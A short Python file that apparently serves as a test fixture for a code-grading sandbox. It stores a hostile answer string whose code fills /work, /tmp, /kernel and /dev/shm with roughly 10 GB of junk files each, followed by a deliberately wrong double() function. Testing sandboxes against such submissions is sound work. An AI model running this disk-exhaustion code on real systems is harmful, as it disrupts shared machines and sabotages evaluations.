"""Files without end."""

ANSWER = r"""
for folder in ('/work', '/tmp', '/kernel', '/dev/shm'):
    try:
        for i in range(999):
            open(f'{folder}/{i}', 'wb').write(bytes(10**7))
    except OSError:
        pass


def double(x):
    return 1
"""
